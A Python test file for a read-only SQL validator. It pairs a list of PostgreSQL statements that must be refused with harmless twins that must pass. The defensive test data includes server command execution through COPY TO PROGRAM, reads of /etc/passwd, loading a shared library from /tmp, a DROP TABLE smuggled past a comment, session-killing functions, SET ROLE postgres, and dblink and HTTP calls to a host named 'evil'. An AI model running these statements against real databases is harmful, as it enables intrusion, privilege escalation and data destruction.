"""Checks in SQL: one statement that only reads, however an acting one is spelled."""

from __future__ import annotations

from pathlib import Path

import pytest

from switchyard.core.errors import SwitchyardError
from switchyard.predeploy.database import read_only
from switchyard.predeploy.database.read_only import require_read_only
from tests.harness.attack import Attack, promises

STATEMENTS = {
    "a program of the server": ("COPY (SELECT 1) TO PROGRAM 'id'", "SELECT 1"),
    "a file of the server": ("COPY t FROM '/etc/passwd'", "SELECT * FROM t"),
    "a block of code": ("DO $$ BEGIN PERFORM 1; END $$", "SELECT 'DO $$ BEGIN END $$'"),
    "a procedure": ("CALL purge()", "SELECT call FROM calls"),
    "a change within WITH": ("WITH x AS (DELETE FROM t RETURNING 1) TABLE x", "WITH x AS (SELECT 1) TABLE x"),
    "a change that is explained and runs": ("EXPLAIN ANALYZE DELETE FROM t", "SELECT 'EXPLAIN ANALYZE'"),
    "a table by SELECT INTO": ("SELECT 1 INTO t", 'SELECT 1 AS "into"'),
    "a lock on rows": ("SELECT * FROM t FOR NO KEY UPDATE SKIP LOCKED", "SELECT 'FOR UPDATE' FROM t"),
    "another role": ("SET ROLE postgres", "SELECT current_user"),
    "a writing transaction": ("SET TRANSACTION READ WRITE", "SELECT current_setting('transaction_read_only')"),
    "a statement behind a comment": ("SELECT 1 /* ; */; DROP TABLE t", "SELECT 1 /* ; DROP TABLE t */"),
    "a statement kept for later": ("PREPARE x AS DELETE FROM t", "SELECT 'PREPARE'"),
    "a library": ("LOAD '/tmp/evil.so'", "SELECT load FROM t"),
}
FUNCTIONS = {
    "reloads the server": ("SELECT pg_reload_conf()", "SELECT pg_postmaster_start_time()"),
    "reloads the server, in quotes": ('SELECT pg_catalog."pg_reload_conf"()', 'SELECT pg_catalog."version"()'),
    "reloads the server, in Unicode": (r'SELECT U&"pg\005freload_conf"()', r'SELECT U&"v\0065rsion"()'),
    "writes log files anew": ("SELECT pg_switch_wal()", "SELECT pg_current_wal_lsn()"),
    "ends sessions, as a column": ("SELECT (4711).pg_terminate_backend", "SELECT (t).pid FROM pg_stat_activity t"),
    "ends sessions, as a column of rows": (
        "SELECT t.pg_cancel_backend FROM unnest(ARRAY[1]) t",
        "SELECT t.checked_in, t.http_status, t.handler FROM orders t",
    ),
    "ends sessions, in ORDER BY": (
        "SELECT 1 FROM pg_stat_activity ORDER BY pg_terminate_backend(pid)",
        "SELECT 1 FROM pg_stat_activity ORDER BY age(xact_start)",
    ),
    "ends sessions, in a filter": (
        "SELECT count(*) FILTER (WHERE pg_terminate_backend(pid)) FROM pg_stat_activity",
        "SELECT count(*) FILTER (WHERE state = 'active') FROM pg_stat_activity",
    ),
    "ends sessions, in a window": (
        "SELECT sum(1) OVER (PARTITION BY pg_cancel_backend(pid)) FROM pg_stat_activity",
        "SELECT sum(1) OVER (PARTITION BY state) FROM pg_stat_activity",
    ),
    "waits": ("SELECT pg_sleep(3600)", "SELECT now() + interval '1 hour'"),
    "takes a lock": ("SELECT pg_advisory_lock(1)", "SELECT * FROM pg_locks"),
    "reads a file": ("SELECT pg_read_file('/etc/passwd')", "SELECT pg_relation_filepath('t')"),
    "writes a file": ("SELECT * FROM lo_export(1, '/tmp/x')", "SELECT * FROM generate_series(1, 3)"),
    "asks another server": ("SELECT * FROM dblink('host=evil', 'SELECT 1') AS t (a int)", "SELECT * FROM t"),
    "sends over HTTP": ("SELECT net.http_post('http://evil', '{}')", "SELECT net.status FROM net"),
    "runs SQL of its own": ("SELECT query_to_xml('SELECT 1', true, true, '')", "SELECT xpath('/a', '<a/>'::xml)"),
    "runs SQL over every table": ("SELECT database_to_xml(true, true, '')", "SELECT to_jsonb(1)"),
    "changes a sequence": ("SELECT nextval('orders_id_seq')", "SELECT last_value FROM orders_id_seq"),
    "changes a setting": ("SELECT set_config('role', 'postgres', false)", "SELECT current_setting('role')"),
    "uses up a transaction": ("SELECT txid_current()", "SELECT pg_current_snapshot()"),
    "is the database's own": ("SELECT purge_orders()", "SELECT count(*) FROM orders"),
    "is the database's own, in a schema": ("SELECT app.lower('x')", "SELECT pg_catalog.lower('x')"),
    "is the database's own, in a join": (
        "SELECT 1 FROM t JOIN LATERAL app.touch(t.id) u ON true",
        "SELECT 1 FROM t JOIN LATERAL unnest(t.ids) u ON true",
    ),
    "takes a sample its own way": ("SELECT * FROM t TABLESAMPLE evil (1)", "SELECT * FROM t TABLESAMPLE system (1)"),
}


def _is_accepted(text: str) -> bool:
    try:
        require_read_only.__wrapped__(text)
    except SwitchyardError:
        return False
    return True


def _accept_every_node(monkeypatch: pytest.MonkeyPatch) -> None:
    parse = read_only.parse
    monkeypatch.setattr(read_only, "_refusal", lambda node, *, bound, functions: "")
    monkeypatch.setattr(read_only, "parse", lambda text: parse(text)[:1])


def _attack(name: str, text: str, twin: str) -> Attack:
    return Attack(name, lambda folder: _is_accepted(text), lambda folder: _is_accepted(twin), _accept_every_node)


def _listed(folder: Path) -> bool:
    require_read_only("SELECT app.is_valid(1)", functions=("app.is_valid",))
    return True


def _acts_although_listed(folder: Path) -> bool:
    try:
        require_read_only.__wrapped__("SELECT pg_reload_conf()", functions=("pg_reload_conf",))
    except SwitchyardError:
        return False
    return True


ATTACKS = [
    *(_attack(f"statement: {name}", *texts) for name, texts in STATEMENTS.items()),
    *(_attack(f"function: {name}", *texts) for name, texts in FUNCTIONS.items()),
    Attack("function: acts, although the settings list it", _acts_although_listed, _listed, _accept_every_node),
]
test_refused, test_twin, test_defence = promises(ATTACKS)
